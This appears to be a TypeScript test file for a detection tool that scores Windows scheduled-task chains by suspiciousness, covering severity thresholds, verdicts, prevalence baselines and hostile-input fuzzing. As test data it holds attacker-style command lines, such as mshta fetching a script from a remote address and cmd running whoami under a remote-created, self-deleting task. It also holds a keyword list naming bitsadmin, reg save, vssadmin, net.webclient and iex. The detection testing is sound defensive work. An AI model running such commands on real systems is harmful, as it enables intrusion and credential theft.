import { cpuUsage } from 'node:process'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { madeChain, madeChange, madeDefinition, madeProcess, madeRun } from '../lab/made-chains.ts'
import type { Actor, Change, Run, RunProcess, TaskChain } from '../model/chain.ts'
import type { Action, TaskDefinition } from '../model/definition.ts'
import type { Severity } from '../model/finding.ts'
import { factorsOfChange, factorsOfRuns } from './factors/index.ts'
import { OwnBaseline, scoreChain, severityOf } from './index.ts'
import { unknown } from './known.ts'
import { subjectOf } from './subject.ts'
import { traits } from './traits/index.ts'

const midday = { time: Date.parse('2024-05-01T12:00:00Z'), ticks: 0 }
const seconds = (n: number) => ({ time: midday.time + n * 1000, ticks: 0 })

const system: Actor = { user: 'NT AUTHORITY\\SYSTEM', sid: 'S-1-5-18', logonId: '0x3e7', process: null, remote: null }
const bob: Actor = { user: 'CORP\\bob', sid: 'S-1-5-21-1-2-3-1001', logonId: '0x1f', process: null, remote: null }

const madeBy = (actor: Actor, more: Partial<Change> = {}): Change =>
  madeChange({
    ...{ ...midday, route: 'schtasks', confidence: 'certain', because: 'The audit event names it.' },
    ...{ actor, ...more },
  })

const exec = (command: string, args: string | null = null) => ({ kind: 'exec', command, arguments: args }) as Action

const definition = (runsAs: string, ...actions: Action[]): TaskDefinition =>
  madeDefinition({ principals: [{ userId: runsAs }], actions })

const process = (image: string, commandLine: string | null, more: Partial<RunProcess> = {}): RunProcess =>
  madeProcess({ ...seconds(60), pid: 460, parentPid: 4, image, commandLine, ...more })

const run = (...processes: RunProcess[]): Run =>
  madeRun({ ...seconds(60), startedBy: 'time', result: 0, outcome: 'completed', processes })

const task = (more: Partial<TaskChain> = {}): TaskChain => ({
  ...madeChain({ host: 'ws5.corp.example', at: midday }),
  ...more,
})

const score = (chain: TaskChain, runsAreVisible = true) => scoreChain(chain, unknown, runsAreVisible)
const bitsOf = (chain: TaskChain) => score(chain).score.bits

describe('what an analyst expects', () => {
  test('a task that runs as SYSTEM from a user folder outranks one from System32', () => {
    const from = (command: string) => task({ change: madeBy(bob), definition: definition('S-1-5-18', exec(command)) })
    expect(bitsOf(from('C:\\Users\\Public\\a.exe'))).toBeGreaterThan(bitsOf(from('C:\\Windows\\System32\\a.exe')))
  })

  test('a command that an intruder runs through a task of a second is high at least', () => {
    const command = exec('cmd.exe', '/C whoami > %windir%\\Temp\\bouWFQYO.tmp 2>&1')
    const { verdict, score: weight } = score(
      task({
        change: madeBy(bob, { route: 'remote-rpc', laterChanges: [{ ...seconds(1), kind: 'deleted', actor: bob }] }),
        definition: definition('S-1-5-18', command),
        runs: [
          run(
            process('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /C whoami > C:\\Windows\\Temp\\bouWFQYO.tmp 2>&1'),
            process('C:\\Windows\\System32\\whoami.exe', 'whoami', { depth: 1 }),
          ),
        ],
      }),
    )
    expect(verdict).toBe('outlier')
    expect(['high', 'critical']).toContain(weight.severity)
  })

  test.each<[string, TaskChain]>([
    [
      'an updater in Program Files that its installer registers as SYSTEM',
      task({
        taskPath: '\\VendorUpdateTaskMachine',
        change: madeBy({
          ...system,
          process: {
            pid: 7,
            image: 'C:\\Windows\\System32\\schtasks.exe',
            commandLine: 'schtasks /create /xml "C:\\Program Files\\Vendor\\task.xml" /tn VendorUpdateTaskMachine',
            ancestry: [{ pid: 6, image: 'C:\\Windows\\System32\\msiexec.exe', commandLine: 'msiexec /V' }],
          },
        }),
        definition: definition('S-1-5-18', exec('"C:\\Program Files\\Vendor\\updater.exe"', '/ua')),
        runs: [run(process('C:\\Program Files\\Vendor\\updater.exe', '"C:\\Program Files\\Vendor\\updater.exe" /ua'))],
      }),
    ],
    [
      'a task of Windows itself',
      task({
        taskPath: '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag',
        change: madeBy(system, { kind: 'modified', route: 'unknown' }),
        definition: definition('S-1-5-18', exec('%windir%\\system32\\defrag.exe', '-c -h -o -$')),
        runs: [run(process('C:\\Windows\\System32\\Defrag.exe', 'C:\\Windows\\system32\\defrag.exe -c -h -o -$'))],
      }),
    ],
    [
      'OneDrive, which installs itself for one user',
      task({
        taskPath: '\\OneDrive Standalone Update Task-S-1-5-21-1-2-3-1001',
        change: madeBy(bob, { route: 'com' }),
        definition: {
          ...definition(
            'S-1-5-21-1-2-3-1001',
            exec('%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe'),
          ),
          registrationInfo: { author: 'Microsoft Corporation' },
        } as TaskDefinition,
      }),
    ],
    [
      'an administrator’s nightly script',
      task({
        change: madeBy(bob),
        definition: definition('CORP\\bob', exec('C:\\Windows\\System32\\cmd.exe', '/c D:\\Scripts\\backup.cmd')),
      }),
    ],
  ])('%s is informational', (_, chain) => {
    expect(score(chain).score.severity).toBe('informational')
  })
})

describe('severity', () => {
  const steps: readonly (readonly [Severity, number])[] = [
    ['informational', 2.9],
    ['low', 3],
    ['low', 7.9],
    ['medium', 8],
    ['medium', 13.9],
    ['high', 14],
    ['high', 19.9],
    ['critical', 20],
  ]
  test.each(steps)('%s: %d bits', (severity, bits) => {
    expect(severityOf(bits)).toBe(severity)
  })

  test('bits are the sum of the factors, and the heaviest comes first', () => {
    const { bits, factors: reasons } = score(
      task({ statedAction: 'mshta.exe http://192.0.2.1/a', statedRunAs: 'SYSTEM', change: madeBy(bob) }),
    ).score
    expect(reasons.map((r) => r.id)).toEqual(['made-by-person', 'proxy', 'unseen-code', 'address'])
    expect(bits).toBeCloseTo(reasons.reduce((sum, r) => sum + r.bits, 0))
    for (const reason of reasons) expect(reason.says).toMatch(/^[A-Z0-9].*[.\w)”]$/s)
  })

  test('a task that has not run can be critical', () => {
    const scored = score(
      task({
        statedAction: 'C:\\Users\\Public\\svchost.exe http://192.0.2.1/a',
        statedRunAs: 'SYSTEM',
        change: madeBy(bob, { route: 'remote-rpc', laterChanges: [{ ...seconds(1), kind: 'deleted', actor: bob }] }),
      }),
    )
    expect(scored.score.severity).toBe('critical')
    expect(scored.verdict).toBe('not-run')
  })
})

describe('verdict', () => {
  const ran = [run(process('C:\\Program Files\\a\\a.exe', 'a.exe'))]
  test('a run that nothing stands out about is ordinary', () => {
    expect(score(task({ runs: ran })).verdict).toBe('ordinary')
  })
  test('from eight bits on what ran is an outlier', () => {
    expect(
      score(
        task({ statedAction: 'C:\\Users\\Public\\svchost.exe', change: madeBy(bob), statedRunAs: 'SYSTEM', runs: ran }),
      ).verdict,
    ).toBe('outlier')
  })
  test('that nothing ran is said only where a run could have been seen', () => {
    expect(score(task(), true).verdict).toBe('not-run')
    expect(score(task(), false).verdict).toBe('run-not-visible')
  })
  test('a run that was seen counts, whatever was thought to be visible', () => {
    expect(score(task({ runs: ran }), false).verdict).toBe('ordinary')
  })
})

describe('deletions and switches', () => {
  const evil = definition('S-1-5-18', exec('mshta.exe', 'http://192.0.2.1/a'))
  test.each(['deleted', 'disabled'] as const)('what a task would have started says nothing about who %s it', (kind) => {
    expect(score(task({ change: madeBy(bob, { kind }), definition: evil })).score.factors).toEqual([])
  })

  test('as part of another story only the loss of protection counts', () => {
    const part = { change: madeBy(bob, { kind: 'disabled', route: 'remote-rpc' }), partOf: 'fedcba9876543210' } as const
    expect(bitsOf(task(part))).toBe(0)
    expect(bitsOf(task({ ...part, taskPath: '\\Microsoft\\Windows\\SystemRestore\\SR' }))).toBe(6)
  })
})

describe('prevalence', () => {
  const on = (host: string, action: string) => task({ host, statedAction: action, change: madeBy(bob) })

  test('one of sixteen hosts with an action is rare, sixteen of sixteen are ordinary', () => {
    const baseline = new OwnBaseline()
    for (let i = 0; i < 16; i++) baseline.see(on(`ws${i}`, 'C:\\Windows\\System32\\a.exe'))
    baseline.see(on('ws3', 'C:\\Windows\\System32\\b.exe'))
    expect(baseline.of(on('ws3', 'C:\\Windows\\System32\\a.exe')).prevalence).toEqual({
      hostsWithAction: 16,
      hosts: 16,
    })
    expect(baseline.of(on('ws3', 'C:\\Windows\\System32\\b.exe')).prevalence).toEqual({ hostsWithAction: 1, hosts: 16 })
    const rarity = (action: string) =>
      scoreChain(on('ws3', action), baseline.of(on('ws3', action)), true).score.factors.find(
        (f) => f.id === 'rare-action',
      )
    expect(rarity('C:\\Windows\\System32\\b.exe')?.bits).toBe(3)
    expect(rarity('C:\\Windows\\System32\\a.exe')?.bits).toBe(-2)
  })

  test('user names, quotes and case do not make the same software different', () => {
    const baseline = new OwnBaseline()
    baseline.see(on('ws1', '"C:\\Users\\bob\\AppData\\Local\\V\\v.exe" /x'))
    baseline.see(on('ws2', 'c:\\users\\ALICE\\AppData\\Local\\V\\V.EXE /x'))
    expect(baseline.of(on('ws1', 'C:\\Users\\carol\\AppData\\Local\\V\\v.exe /x')).prevalence.hostsWithAction).toBe(2)
  })

  test('the order of a task’s actions does not matter', () => {
    const baseline = new OwnBaseline()
    const [a, b] = [exec('a.exe'), exec('b.exe')]
    baseline.see(task({ host: 'ws1', definition: definition('x', a, b) }))
    baseline.see(task({ host: 'ws2', definition: definition('x', b, a) }))
    expect(baseline.of(task({ definition: definition('x', a, b) })).prevalence.hostsWithAction).toBe(2)
  })

  test('one host seen ten times is one host', () => {
    const baseline = new OwnBaseline()
    for (let i = 0; i < 10; i++) baseline.see(on('ws1', 'a.exe'))
    expect(baseline.of(on('ws1', 'a.exe')).prevalence).toEqual({ hostsWithAction: 1, hosts: 1 })
  })

  test('a host without any known action could not have shown one', () => {
    const baseline = new OwnBaseline()
    baseline.see(on('ws1', 'a.exe'))
    baseline.see(task({ host: 'ws2' }))
    expect(baseline.of(on('ws1', 'a.exe')).prevalence.hosts).toBe(1)
  })
})

describe('hostile input', () => {
  /** A task with the same text wherever the attacker chooses one. */
  function everywhere(text: string): TaskChain {
    const maker = { pid: 7, image: text, commandLine: text }
    return task({
      host: text,
      taskPath: text,
      definition: {
        ...definition(text, exec(text, text), { kind: 'com-handler', classId: text, data: text } as Action),
        registrationInfo: { author: text },
        triggers: [{ kind: 'time', repetition: { interval: text } }],
      } as unknown as TaskDefinition,
      change: madeBy({
        ...bob,
        user: text,
        sid: null,
        process: { ...maker, ancestry: [maker] },
        remote: { address: text, host: text },
      }),
      runs: [run(process(text, text, { user: text }), process(text, text, { depth: 1 }))],
      contradictions: [],
      circumstances: [{ ...midday, kind: 'log-cleared', what: text, actor: { ...bob, user: text } }],
    })
  }

  test('any text in any field leads to a score of finite bits and plain sentences', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        const { score: weight } = score(everywhere(text))
        expect(Number.isFinite(weight.bits)).toBe(true)
        for (const { bits, says } of weight.factors) {
          expect(Number.isFinite(bits)).toBe(true)
          expect(says.length).toBeLessThan(600)
        }
      }),
    )
  })

  test('nothing but nulls scores nothing', () => {
    expect(score(task({ taskPath: null })).score).toEqual({ bits: 0, severity: 'informational', factors: [] })
  })

  // What the expressions of the factors repeat or look back over, a hundred and fifty thousand characters of each: a quadratic one would take
  // hours.
  const characters = [' ', '"', '\\', 'a', '.', '%', '> ', 'A1', '\u{1f600}', '\ud800', '\u0130']
  const paths = ['%windir%', '%a', '$env:', 'c:/', '\\\\', '\\.\\', '\\users\\a', '\\programdata\\a.', '.exe', 'a.exe ']
  const commands = [
    '>\\\\a',
    'cmd> \\\\a\\',
    ' -e ',
    ' -enc',
    ' -w ',
    'http://localhost:',
    '\\\\a@',
    '@1',
    '-join ',
    'iex ',
  ]
  const words = [
    'bitsadmin ',
    'reg save ',
    'vssadmin create ',
    'reflection.assembly] :: ',
    'net user ',
    'wmic ',
    'new-object net.webclient ',
    '2.2.2.',
    '/sc minute',
    '/mo ',
    '/xml ',
  ]
  test.each([...characters, ...paths, ...commands, ...words])(
    'a hundred and fifty thousand characters of %j are weighed in no time',
    (piece) => {
      const text = piece.repeat(Math.ceil(150_000 / piece.length))
      for (const each of [text, `cmd powershell \\users\\> "\\\\${text}!`]) {
        const subject = subjectOf(
          { ...everywhere(each), definition: null, statedAction: each },
          { ...unknown, prevalence: { hostsWithAction: 1, hosts: 16 } },
        )
        const looks = [
          ...[...factorsOfChange, ...factorsOfRuns].map(({ id, weigh }) => ({ id, look: () => weigh(subject) })),
          ...traits.map(({ id, seen }) => ({ id, look: () => seen(subject) })),
        ]
        for (const { id, look } of looks) {
          const start = cpuUsage()
          look()
          expect(cpuUsage(start).user / 1000, id).toBeLessThan(2000)
        }
        new OwnBaseline().see(subject.chain)
      }
    },
  )
})
